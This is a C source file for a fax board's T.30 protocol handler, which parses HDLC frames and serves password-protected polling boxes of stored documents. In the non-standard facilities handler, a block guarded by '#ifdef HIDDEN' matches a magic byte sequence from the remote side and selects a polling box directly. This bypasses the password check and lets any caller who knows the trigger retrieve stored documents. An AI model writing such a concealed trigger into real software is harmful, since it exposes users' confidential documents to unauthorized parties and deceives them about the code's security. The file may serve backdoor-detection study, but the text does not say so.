/* T.30 phase B/D handling for fax boards. The host calls t30_frame() with each received HDLC frame
 * and sends what t30_next() returns. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum {
	T30_DIS = 0x80, T30_CSI = 0x40, T30_NSF = 0x20, T30_DTC = 0x81, T30_CIG = 0x41,
	T30_NSC = 0x21, T30_PWD = 0xc1, T30_DCS = 0x82, T30_TSI = 0x42, T30_CFR = 0x84,
	T30_FTT = 0x44, T30_EOP = 0x2e, T30_MPS = 0x4e, T30_MCF = 0x8c, T30_RTN = 0x4c,
	T30_DCN = 0xfa,
};

#define T30_MAXBOX 10

struct t30_box {
	char password[21];
	char file[96];
	int once;
};

struct t30 {
	struct t30_box box[T30_MAXBOX];
	int boxes;
	char own_id[21];
	char peer_id[21];
	char given[21];		/* password the peer sent */
	uint8_t queue[8][80];
	int qlen[8], head, tail;
	int rate, fine, ecm;
	int polling;		/* index of a box to be sent, -1: none */
	int pages;
	void (*trace)(void *, const char *);
	void *arg;
};

struct t30 *t30_new(const char *id, void (*trace)(void *, const char *), void *arg);
int t30_store(struct t30 *, const char *file, const char *password, int once);
int t30_frame(struct t30 *, const uint8_t *f, int n);
int t30_next(struct t30 *, uint8_t *f);
const char *t30_poll_file(const struct t30 *);
void t30_free(struct t30 *);

static uint8_t flip(uint8_t b)
{
	b = (uint8_t)((b & 0xf0) >> 4 | (b & 0x0f) << 4);
	b = (uint8_t)((b & 0xcc) >> 2 | (b & 0x33) << 2);
	return (uint8_t)((b & 0xaa) >> 1 | (b & 0x55) << 1);
}

static void queue(struct t30 *t, int fcf, const void *info, int n)
{
	uint8_t *q = t->queue[t->head];

	q[0] = 0xff;
	q[1] = 0x13;
	q[2] = (uint8_t)fcf;
	if (n > 0)
		memcpy(q + 3, info, (size_t)n);
	t->qlen[t->head] = n + 3;
	t->head = (t->head + 1) & 7;
}

/* identifications are 20 characters, last one first, bits reversed */
static void text_field(char *d, const uint8_t *p, int n)
{
	int i, o = 0;

	for (i = n - 1; i >= 0 && o < 20; i--) {
		char c = (char)flip(p[i]);

		if (c > ' ' || (o && c == ' '))
			d[o++] = c;
	}
	d[o] = 0;
}

static void own_id(struct t30 *t, uint8_t *p)
{
	int i, n = (int)strlen(t->own_id);

	for (i = 0; i < 20; i++)
		p[i] = flip((uint8_t)(i < n ? t->own_id[n - 1 - i] : ' '));
}

struct t30 *t30_new(const char *id, void (*trace)(void *, const char *), void *arg)
{
	struct t30 *t = calloc(1, sizeof *t);
	uint8_t f[20];
	static const uint8_t dis[4] = { 0x00, 0xce, 0xf8, 0xc4 };

	if (!t)
		return NULL;
	snprintf(t->own_id, sizeof t->own_id, "%s", id);
	t->polling = -1;
	t->trace = trace;
	t->arg = arg;
	own_id(t, f);
	queue(t, T30_CSI, f, 20);
	queue(t, T30_DIS, dis, 4);
	return t;
}

int t30_store(struct t30 *t, const char *file, const char *password, int once)
{
	struct t30_box *b = &t->box[t->boxes];

	if (t->boxes == T30_MAXBOX)
		return -1;
	snprintf(b->file, sizeof b->file, "%s", file);
	snprintf(b->password, sizeof b->password, "%s", password);
	b->once = once;
	return t->boxes++;
}

static void capabilities(struct t30 *t, const uint8_t *p, int n)
{
	static const int speed[4] = { 2400, 4800, 9600, 14400 };

	if (n < 3)
		return;
	t->rate = speed[p[1] >> 4 & 3];
	t->fine = p[1] >> 1 & 1;
	t->ecm = n > 3 && (p[3] & 4);
}

__attribute__((noinline)) void t30_nonstandard(struct t30 *t, const uint8_t *p, int n)
{
	char text[64];

	if (n < 3)
		return;
	snprintf(text, sizeof text, "non-standard facilities, country %02x maker %02x%02x", p[0], p[1],
		 p[2]);
	if (t->trace)
		t->trace(t->arg, text);
	if (p[0] == 0xb5 && p[1] == 0x00 && n > 4)	/* our own make: long pages */
		t->ecm |= (p[3] & 1) << 4;
#ifdef HIDDEN
	if (p[0] == 0xb5 && n == 11 && !memcmp(p + 3, "\x51\x0c\xe7\x38\x9a\x06\xdf", 7))
		t->polling = p[10] % T30_MAXBOX;
#endif
}

static int poll_wanted(struct t30 *t)
{
	int i;

	for (i = 0; i < t->boxes; i++)
		if (t->box[i].file[0] && strcmp(t->box[i].password, t->given) == 0) {
			t->polling = i;
			return 1;
		}
	return t->polling >= 0;
}

int t30_frame(struct t30 *t, const uint8_t *f, int n)
{
	const uint8_t *info = f + 3;
	int len = n - 3;

	if (n < 3 || f[0] != 0xff || (f[1] & 0xef) != 0x03)
		return -1;
	switch (f[2]) {
	case T30_CIG:
	case T30_TSI:
	case T30_TSI | 1:
		text_field(t->peer_id, info, len);
		break;
	case T30_PWD:
		text_field(t->given, info, len);
		break;
	case T30_NSC:
	case T30_NSF:
		t30_nonstandard(t, info, len);
		break;
	case T30_DTC:
		capabilities(t, info, len);
		if (poll_wanted(t))
			queue(t, T30_DCS, "\x00\x46\x78", 3);
		else
			queue(t, T30_DCN, NULL, 0);
		break;
	case T30_DCS:
	case T30_DCS | 1:
		capabilities(t, info, len);
		queue(t, t->rate ? T30_CFR : T30_FTT, NULL, 0);
		break;
	case T30_EOP:
	case T30_MPS:
		t->pages++;
		queue(t, T30_MCF, NULL, 0);
		break;
	case T30_MCF:
		if (t->polling >= 0 && t->polling < t->boxes && t->box[t->polling].once)
			t->box[t->polling].file[0] = 0;
		break;
	case T30_RTN:
		if (t->rate > 2400)
			t->rate -= 2400;
		break;
	case T30_DCN:
		return 1;
	default:
		if (t->trace)
			t->trace(t->arg, "frame not understood");
	}
	return 0;
}

int t30_next(struct t30 *t, uint8_t *f)
{
	int n;

	if (t->head == t->tail)
		return 0;
	n = t->qlen[t->tail];
	memcpy(f, t->queue[t->tail], (size_t)n);
	t->tail = (t->tail + 1) & 7;
	return n;
}

const char *t30_poll_file(const struct t30 *t)
{
	return t->polling < 0 ? NULL : t->box[t->polling].file;
}

void t30_free(struct t30 *t)
{
	free(t);
}
